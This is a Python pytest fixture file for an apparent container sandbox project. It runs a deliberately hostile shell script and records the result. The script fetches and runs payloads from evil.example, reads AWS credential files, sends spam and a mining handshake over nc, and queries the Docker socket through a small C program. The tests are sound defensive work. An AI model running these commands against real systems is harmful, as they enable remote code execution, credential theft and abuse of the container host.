"""Runs that several tests look at."""

import shutil
from collections.abc import Iterator

import pytest

from pratique.model import Recording
from tests.conftest import cannot
from tests.integration.sandbox.played import WORK, play

BUSY = """
echo hello from within
cp /bin/busybox /tmp/dropped && /tmp/dropped true
wget -q -O /tmp/stage.sh http://evil.example/stage.sh && chmod +x /tmp/stage.sh && /tmp/stage.sh
wget -q -O /tmp/program http://evil.example/program && chmod +x /tmp/program && /tmp/program && echo it ran
wget -q -O - https://secret.example/page.json
probe tcp 203.0.113.5 4444 hello-there
probe udp 203.0.113.6 5555 datagram
probe tcp 203.0.113.7 3333 '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}
'
{
  printf 'EHLO me\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<victim@c.example>\\r\\n'
  printf 'DATA\\r\\nbuy this\\r\\n.\\r\\nQUIT\\r\\n'
} | busybox nc 203.0.113.8 25
busybox nc -w 3 203.0.113.9 22 </dev/null | busybox head -c 7
ls -laR / >/dev/null 2>&1
cat /root/.aws/credentials >/dev/null
printf 'GET /v1.40/containers/json HTTP/1.0\\r\\n\\r\\n' | engine
mount -t tmpfs nothing /mnt
busybox unshare -n true
busybox chroot / true
busybox mknod /tmp/disk b 8 0
busybox mknod /tmp/fifo p && echo a fifo is allowed
echo text > /tmp/first && busybox mv /tmp/first /tmp/second
echo shared > /dev/shm/shared
sleep 600
busybox sleep 3600
exit 3
"""
ENGINE = r"""
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
int main(void)
{
	struct sockaddr_un there = { AF_UNIX, "/var/run/docker.sock" };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	char text[4096];
	ssize_t count = read(0, text, sizeof text);

	if (connect(fd, (struct sockaddr *)&there, sizeof there) || write(fd, text, count) != count)
		return 1;
	while ((count = read(fd, text, sizeof text)) > 0)
		write(1, text, count);
	return 0;
}
"""


@pytest.fixture(scope="session", autouse=True)
def sandbox(root: None) -> Iterator[None]:
    del root
    for program in ("runc", "iptables-restore", "ip"):
        if shutil.which(program) is None:
            cannot(f"needs {program}: 'make setup' installs it")
    yield
    shutil.rmtree(WORK, ignore_errors=True)


@pytest.fixture(scope="session")
def busy(sandbox: None) -> Recording:
    """A run of a program that does a little of everything."""
    del sandbox
    from tests.integration.sandbox.played import compiled, image

    return play(image({"bin/engine": compiled("engine", ENGINE)}, Cmd=["/bin/sh", "-c", BUSY]), for_s=60.0)
